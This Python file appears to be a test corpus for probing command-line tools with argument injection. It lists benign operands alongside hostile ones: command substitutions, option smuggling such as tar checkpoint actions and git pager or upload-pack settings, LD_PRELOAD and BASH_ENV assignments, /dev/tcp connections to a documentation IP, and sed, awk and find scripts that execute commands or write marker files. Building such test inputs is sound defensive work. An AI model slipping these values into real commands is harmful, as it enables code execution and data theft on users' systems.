"""Words for operands and values: harmless ones, and ones that do harm where a program takes them for more than text."""

import shlex

FILES = [
    "a.txt", "b.txt", "data.csv", "data.json", "main.py", "src/main.rs", "README.md", "src", ".", "doc", "sub/a.txt", "list.txt", "link", "linkdir",
    "x.tar", "x.tgz", "x.zip", "b.txt.gz", "b.txt.xz", "data.yaml", "data.xml", "nul.txt", "names.txt", "sums.txt", "change.patch", "main.c", "main.sh",
    "x.db", "data.sql", "./a.txt", "../project/a.txt", "src/deep", "/dev/null", "/etc/passwd", "-", "main.js", "main.go", "Cargo.toml",
    "package.json", "/home/dev/project/a.txt", "dangling", "src/../a.txt", "Makefile", "setup.py",
]
TEXTS = [
    "alpha", "x", "1", "5", "10", "HEAD", "main", "a", "HEAD~1", "v1", "topic", "^a", "1,2", "3p", "%H", "0", "-1", "", "utf-8", "never", "always", "auto",
    "json", "*.txt", "name", "1d", "origin", "A", "default", "all", "HEAD:a.txt", "main..topic", "1k", "f", "none", "short", "2", "true", "+%s", "=", ":",
    "origin/main", "a b", "full", "%s", "2026-01-01", "yes", "raw", "text", "@", "stash@{0}", "-n", "root", "dev", "bash", "%an", "[a-z]", "$", "x=y", ".a",
    "localhost", "print", "-size", "id", "INFO", "plain", "1s", "u", "git", "ls",
]
HOSTILE = [
    "./argevil", "exec=./argevil", "--pre=./argevil", "--output=ARGWNED", "-oARGWNED", "-o", "ARGWNED", "-delete", "-exec", "--help", "--version", "-V", "-x",
    "touch ARGWNED", "|touch ARGWNED", "!touch ARGWNED", "$(touch ARGWNED)", "`touch ARGWNED`", "a[$(touch ARGWNED)]", "w ARGWNED", "e touch ARGWNED",
    "1e touch ARGWNED", "s/a/touch ARGWNED/e", 'BEGIN{system("touch ARGWNED")}', '{print > "ARGWNED"}', "@evil.js", "ext::./argevil", "http://192.0.2.1/",
    "192.0.2.1", "file:///home/dev/project/a.txt", "--checkpoint-action=exec=./argevil", "--to-command=./argevil", "-I./argevil", "--rsh=./argevil",
    "-c", "alias.x=!./argevil", "core.pager=./argevil", "--upload-pack=./argevil", "--exec=./argevil", "--ext-diff", "--textconv", "-O./argevil", "-e", "-i", "-w",
    "--config=./evil", "--require=./evil.js", "-r", "--eval=1", "conftest", "evil.py", "evil.js", "evil.sed", "evil.awk", "--", "-f", "+x", "-P", "--use-compress-program=./argevil",
    "vendor/bare", "--git-dir=vendor/bare", "-C", "odd", "shadow", "~/other/a.txt", "../other/a.txt", "up/a.txt", "/dev/tcp/192.0.2.1/80", "--no-pager", "--paginate", "-p",
    "--open-files-in-pager=./argevil", "sh", "bash", "-s", "0</dev/null", "user@192.0.2.1", "--in-place", "--write", "--fix", "--rcfile=./evil", "--init-file=./evil",
    "load_file('a')", ".shell ./argevil", "\\! ./argevil", "xdg-open", "--hostname-bin=./argevil", "--compress-program=./argevil", "-T", "--files0-from=-", "-u", "{}", ";", "+",
]
# Values and operands that a program betrays itself by: it starts them, writes them, looks them up.
BETRAYING = ["./argevil", "ARGWNED", "x.example"]
BETRAYED = [
    (), ("./argevil",), ("ARGWNED",), ("ARGWNED.png",), ("x.example",), ("a.txt", "ARGWNED"), ("a.txt", "./argevil"), ("http://x.example/",), ("x.example:x",), ("user@x.example",), ("@x.example",),
    ("'touch ARGWNED|'",), ("'|touch ARGWNED'",), ("'>ARGWNED'",), ("a.txt", "'touch ARGWNED|'"), ("a.txt", "'|touch ARGWNED'"), ("a.txt", "'>ARGWNED'"), ("x.tgz",), ("data.xml",), ("src",), ("a.txt", "b.txt"), ("1", "1"),
    *((shlex.quote("odd/" + mark + ending),) for mark in ("';touch PWNED;'", "$(touch PWNED)") for ending in (".gz", ".zip", ".tar", ".xz", ".1")),
]
# What a program is asked about itself, and what it is given to read in a planted project.
ABOUT = [(), ("--version",), ("--help",), ("-V",), ("-v",), ("-h",), ("-version",), ("-help",), ("version",), ("help",), ("-?",), ("--usage",), ("--list",), ("-l",), ("--check", ".")]
READ = [(file,) for file in ("a.txt", ".", "data.json", "main.py", "main.c", "main.js", "main.sh", "README.md", "x.tgz", "x.db")] + [("alpha", "a.txt"), ("-n", "1", "a.txt"), ("a.txt", "b.txt"), (".", "data.json")]
GLOBS = ["*", "*.txt", "odd/*", "-*", "./*", "[a-b]*", "?.txt", "**", "{a,b}.txt", "a{,.txt}", "{-o,ARGWNED}", "{a.txt,-oARGWNED}", "*/", "s*", "../*", "~/*", "{1..3}", "src/*", "[!a]*", "--*", "{./argevil,a.txt}", "*/*"]
ASSIGNED = [
    "LC_ALL=C", "NO_COLOR=1", "CI=1", "FOO=bar", "A=./argevil", "PATH=.:$PATH", "PATH=.", "LD_PRELOAD=./evil", "GIT_PAGER=./argevil", "PAGER=./argevil", "GIT_EXTERNAL_DIFF=./argevil", "GIT_DIR=vendor/bare",
    "TZ=UTC", "LESSOPEN='|./argevil %s'", "RIPGREP_CONFIG_PATH=.ripgreprc", "IFS=,", "HOME=.", "BASH_ENV=./evil", "ENV=./evil", "PYTHONPATH=shadow", "NODE_OPTIONS='--require ./evil.js'", "PERL5OPT=-MEvil", "GREP_OPTIONS=-r",
    "RUST_BACKTRACE=1", "TMPDIR=.", "COLUMNS=80", "LANG=C", "GIT_CONFIG_COUNT=1", "MANPAGER=./argevil", "PYTHONSTARTUP=evil.py", "RUBYOPT=-r./evil.rb", "EDITOR=./argevil", "TERM=xterm", "AWKPATH=.", "FORCE_COLOR=1", "PYTHONDONTWRITEBYTECODE=1",
]
WHERE = ["project"] * 12 + ["clone"] * 4 + ["project/sub"] * 2 + ["project/odd"] * 2 + ["project/vendor/bare", "project/shadow", "project/src"] + ["honest"] * 6 + ["honest/src"]

SED = [
    "s/a/b/", "s/a/b/g", "1p", "$!d", "/a/,/b/p", "1,3p", "y/abc/xyz/", "=", "n;d", "/x/!p", "s/a/b/w /dev/stdout", "s,a,b,gI", "1~2p", "$=", "s/a/b/;p", "/a/{p;q}", "l", "10q", "s/\\(a\\)/\\1/2p", "G", "s/a/b/w ARGWNED",
    "w ARGWNED", "1w ARGWNED", "s/a/touch ARGWNED/e", "e", "1e touch ARGWNED", "r a.txt", "R a.txt", "W ARGWNED", ":a # x\nw ARGWNED", ":a;s/a/b/;ta", "a\\\nw ARGWNED", "a w ARGWNED", "i\\x\nw ARGWNED", "c w ARGWNED", "s/a/b/ w ARGWNED", "s/a/b/gw ARGWNED",
    "y/a/b/;w ARGWNED", "}w ARGWNED", "{w ARGWNED\n}", "/w ARGWNED/p", "s/w ARGWNED/x/", "s|x|w ARGWNED|", "\\,a,w ARGWNED", "1!{w ARGWNED\n}", "b a;w ARGWNED\n:a", "#n\nw ARGWNED", "s/[/]/x/w ARGWNED", "s/a/b\\\nw ARGWNED/", "1,~4w ARGWNED", "v 4.2\nw ARGWNED", "0,/a/w ARGWNED", "t w\nw ARGWNED",
    "r ARGWNED", "F", "z", "D", "N;P;D", "x;w ARGWNED", "q5", "Q", "s/x/y/m0", "s/x/y/;;w ARGWNED", "a\\", "r", "bx\n:x\ne touch ARGWNED", "s/.*/touch ARGWNED/;e", "a foo\ne touch ARGWNED", "i\\\nfoo\\\nbar\ne touch ARGWNED", "{e touch ARGWNED\n}", "y/;/\\n/;e touch ARGWNED",
]
AWK = [
    "{print}", "{print $1}", "NR==1", "/a/{n++} END{print n}", "BEGIN{FS=\",\"}{print $2}", "{print > \"ARGWNED\"}", "{print >> \"ARGWNED\"}", "{print | \"touch ARGWNED\"}", "BEGIN{system(\"touch ARGWNED\")}", "BEGIN{\"touch ARGWNED\" | getline}",
    "{printf \"%s\\n\", $0}", "{print > \"/dev/stdout\"}", "{print > \"/dev/stderr\"}", "{gsub(/a/,\"b\")}1", "length > 3", "{print ($1 > 2)}", "{print $1 > 2}", "{print $1, $2 > \"/dev/null\"}", "BEGIN{while ((getline l < \"a.txt\") > 0) print l}", "@load \"filefuncs\"; {print}",
    "@include \"evil.awk\"; {print}", "BEGIN{f=\"system\"; @f(\"touch ARGWNED\")}", "{print /a/ > \"ARGWNED\"}", "BEGIN { printf \"x\" | \"sh\" }", "function f(x) { return x > 1 } {print f($1)}", "{ print a/b > \"ARGWNED\" }", "{x = $1 / 2; print > \"ARGWNED\" /1/}", "BEGIN{print \"a\" |& \"touch ARGWNED\"}",
    "BEGIN{print \"x\" > \"/inet/tcp/0/192.0.2.1/80\"}", "BEGIN{\"/inet/tcp/0/192.0.2.1/80\" |& getline}", "{print > $1}", "{print > (\"ARG\" \"WNED\")}", "BEGIN{close(\"x\"); print ENVIRON[\"HOME\"]}", "{ print # > \"x\"\n}", "{print \"#\" > \"ARGWNED\"}", "/[/]/{print > \"ARGWNED\"}", "END{print NR > 1 ? \"a\" : \"b\"}",
    "NR > 1", "$1 > 2 {print}", "{print(1)(2) > \"ARGWNED\"}", "{a[$1]++} END{for (k in a) print k, a[k]}", "{if ($1 > 1) print}", "BEGIN{getline; print}", "{print; fflush()}", "BEGIN{printf \"%c\", 65 > \"ARGWNED\"}", "{ print $0 >\"ARGWNED\" }", "BEGIN{$0=\"x\"; print | \"cat\"}", "{print \"a\\\" > \\\"ARGWNED\"}",
]
JQ = [".", ".a", ".b[]", "keys", "map(1)", ".name|length", "input", "inputs", "$ENV.HOME", "env", "include \"evil\"; .", "import \"evil\" as e; .", "@sh", "input_filename", "limit(3; .[])", "getpath([\"a\"])", "halt", "debug", "$__loc__", "now", "\"\\(.a)\"", "ltrimstr(\"a\")", ". as $x | $x", "splits(\"a\")", "tojson", "@json", "get_search_list"]
FIND = [
    "-name '*.txt'", "-type f", "-maxdepth 1", "-print", "-print0", "-newer a.txt", "-size +1k", "-empty", "-ls", "-mtime -1", "-path ./src", "-prune", "-o", "-not -name x", "-iname A*", "-perm -u+x", "! -type d", "( -name a )", "\\( -name a \\)", "-exec cat {} \\;",
    "-exec grep x {} +", "-exec ./argevil {} \\;", "-execdir ls {} +", "-ok rm {} \\;", "-delete", "-fprint ARGWNED", "-fprintf ARGWNED %p", "-fls ARGWNED", "-fprint0 ARGWNED", "-printf '%p\\n'", "-regex .*", "-user dev", "-L", "-H", "-P", "-O3", "-D tree", "-depth", "-xdev", "-follow",
    "-files0-from list.txt", "-exec {} \\;", "-exec sh -c 'touch ARGWNED' \\;", "-exec sort -o ARGWNED {} \\;", "-exec sort -t + -o ARGWNED {} \\;", "-name + -delete", "-samefile a.txt", "-quit", "-exec env {} +", "-exec nice {} \\;", "-exec echo {} \\; -delete", "-exec touch ARGWNED ;", "-name \\; -delete", "-anewer -delete", "-exec grep -l x {} + -o -delete", "-wholename -exec ./argevil {} +", "-used 1", "-a", ",", "-true", "-false", "-executable", "-context x", "-fstype tmpfs", "-nouser", "-lname x", "-links 1", "-inum 3", "-regextype posix-extended", "-newermt 2020-01-01", "-exec file {} +", "-exec head -n1 {} \\;", "-exec wc -l {} +", "-exec stat {} +", "-exec xargs {} +", "-exec find {} -delete \\;", "-exec sed -n 1p {} +", "-exec sed w\\ ARGWNED {} +", "-exec awk '{print > \"ARGWNED\"}' {} +", "-exec {} +",
]
